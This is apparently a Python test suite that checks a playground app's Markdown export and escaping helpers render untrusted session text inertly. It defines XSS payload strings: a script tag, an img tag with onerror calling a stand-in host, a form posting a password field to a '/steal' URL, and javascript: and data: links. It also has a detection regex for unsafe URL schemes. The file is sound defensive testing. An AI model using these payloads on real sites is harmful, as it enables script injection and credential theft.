"""Untrusted text is text: the Markdown export and the page's escaping helpers.

The export is rendered here by a CommonMark renderer (markdown-it, with raw HTML *on* and its
own link filter *off*, like a permissive viewer): whatever a model, a prompt or an import put in
a session, the export must render the same with raw HTML on as with it off (so it holds no HTML),
link and load nothing but http(s), and keep ordinary Markdown — code stays code.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from playground.web.escape import esc, md
from storage.markdown import to_markdown
from storage.schema import validate
from storage.untrusted import literal, markdown

PIXEL = "<img src=http://127.0.0.1:9/pixel onerror=alert(1)>"
SCRIPT = "<script>alert(2)</script>"
FORM = '<form action="http://127.0.0.1:9/steal"><input type=password name=pw></form>'
JS_LINK = "[click me](javascript:alert(3))"
DATA_IMAGE = "![x](data:image/svg+xml;base64,PHN2Zy8+)"
UNSAFE = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)


def _renderer(raw_html: bool) -> MarkdownIt:
    renderer = MarkdownIt("commonmark", {"html": raw_html}).enable("table").enable("strikethrough")
    renderer.validateLink = lambda url: True  # judge the export, not markdown-it's own filter
    return renderer


PERMISSIVE, NO_HTML = _renderer(True), _renderer(False)


def assert_inert(source: str) -> str:
    """The HTML a permissive viewer makes of ``source``, after checking it holds nothing active."""
    rendered = PERMISSIVE.render(source)
    assert rendered == NO_HTML.render(source), "raw HTML got through"
    for url in re.findall(r'(?:href|src)="([^"]*)"', rendered):
        assert not UNSAFE.match(html.unescape(url)), url
    return rendered


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def text_of(rendered: str) -> str:
    parser = _Text()
    parser.feed(rendered)
    parser.close()
    return "".join(parser.parts)


def _hostile_session() -> dict:
    answer = (f"Sure. {PIXEL} and {SCRIPT}\n\n{FORM}\n\n{JS_LINK} {DATA_IMAGE} [ref][r]\n\n"
              "[r]: JaVaScRiPt\\:alert(4)\n\n"
              "**Bold** stays, so does [a link](https://example.com).\n\n"
              "```html\n<b>code stays code</b>\n```\n\n"
              "1. in a list:\n   ```\n   <i>also code</i>\n   ```\n\n"
              "```\nleft open <script>alert(5)</script>")
    output = {"model": f"openai:{PIXEL}", "label": f"lane {SCRIPT}", "params": {"temperature": 0.0, "stop": PIXEL},
              "text": answer, "status": "error", "error": {"type": "HTTPError", "message": f"bad {PIXEL} {FORM}"},
              "finish_reason": SCRIPT, "reasoning": f"think {SCRIPT} {JS_LINK}",
              "metrics": {"ttft_ms": 1.0, "total_ms": 2.0, "queue_ms": 0.0, "load_ms": 0.0, "input_tokens": 1,
                          "output_tokens": 1, "tokens_per_s": 1.0, "cost_usd": 0.0, "estimated": [],
                          "contention": {"threads": 1, "shared_with": []}},
              "server_metrics": {}, "timeline": [[1.0, len(answer)]]}
    return {"schema": "playground.session/1", "id": "01J00000000000000000000XSS", "title": f"{PIXEL} {FORM}",
            "created_at": "2026-01-02T03:04:05.000Z", "system": f"{SCRIPT}\n{DATA_IMAGE}", "tags": [SCRIPT],
            "turns": [{"prompt": f"{PIXEL}\n```\nunclosed in the prompt", "created_at": "2026-01-02T03:04:05.000Z",
                       "outputs": [output]}]}


def test_markdown_export_of_a_hostile_session_is_inert_and_still_markdown() -> None:
    doc = _hostile_session()
    validate(doc)  # a document the store would import as it is
    exported = to_markdown(doc)
    assert exported.count("<details>") == exported.count("</details>") == 1  # its own: the one reasoning
    rendered = assert_inert(exported.replace("<details><summary>reasoning</summary>\n", "")
                            .replace("\n</details>\n", "\n"))
    assert "<img" not in rendered and "<script" not in rendered and "<form" not in rendered
    assert "<input" not in rendered
    text = text_of(rendered)
    for planted in (PIXEL, SCRIPT, FORM, JS_LINK, DATA_IMAGE):
        assert planted in text  # shown as written, not dropped
    assert f"<h1>{html.escape(PIXEL, quote=False)} " in rendered  # the title: literal text
    assert "<strong>Bold</strong>" in rendered and '<a href="https://example.com">a link</a>' in rendered
    assert '<code class="language-html">&lt;b&gt;code stays code&lt;/b&gt;' in rendered
    assert "<code>&lt;i&gt;also code&lt;/i&gt;" in rendered  # a fence inside a list item too
    assert "left open &lt;script&gt;" in rendered  # the answer's open fence is closed where it ends ...
    assert rendered.count("<table>") == 1 and rendered.rstrip().endswith("</blockquote>")  # ... nothing after swallowed


_FRAGMENTS = ["<", ">", "`", "``", "```", "~~~", "|", "\\", "[", "]", "(", ")", "!", ":", "javascript", "DaTa",
              "vbscript", "&#106;", "&", "#", "\n", "\n\n", " ", "  ", "    ", "\t", "\r", "- ", "1. ", "> ", "---",
              "|---|", "[x]: ", "](", "\\:", PIXEL, SCRIPT, "<!--", "\n```\n", "- ```", "  ```", "`a|b`", "_", "*"]
hostile = st.lists(st.sampled_from(_FRAGMENTS), max_size=40).map("".join) | st.text(max_size=60)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile)
def test_any_text_made_inert_stays_inert_and_closes_what_it_opens(text: str) -> None:
    quoted = "\n".join("> " + line if line else ">" for line in text.replace("\r", "\n").split("\n"))
    for safe in (markdown(text), markdown(quoted)):
        rendered = assert_inert(f"### before\n\n{safe}\n\n### after\n")
        assert rendered.rstrip().endswith("<h3>after</h3>")  # not swallowed by a fence left open


one_line = st.text(st.characters(exclude_categories=["Cs", "Cc", "Zl", "Zp"]) | st.sampled_from("<>&`*_[]()!|~$#\\"),
                   max_size=40).map(str.strip)


@settings(max_examples=300, deadline=None)
@given(one_line)
def test_literal_text_renders_exactly_as_written(text: str) -> None:
    rendered = assert_inert("x " + literal(text))  # placed mid-line, as the export and the page place it
    assert rendered.startswith("<p>") and rendered.count("<") == 2  # one paragraph, no other element
    assert text_of(rendered).strip() == ("x " + text).strip()
    page = assert_inert("x " + md(text))  # the page's notices: the same, with every punctuation escaped
    assert page.count("<") == 2 and text_of(page).strip() == ("x " + text).strip()
    assert not re.search(r"https?:|www\.", md(text))  # nothing a GFM renderer would take for a bare link


@given(st.text(max_size=60))
def test_html_escaping_keeps_the_text_and_no_markup(text: str) -> None:
    escaped = esc(text)
    assert html.unescape(escaped) == text
    assert not set("<>\"'") & set(escaped)
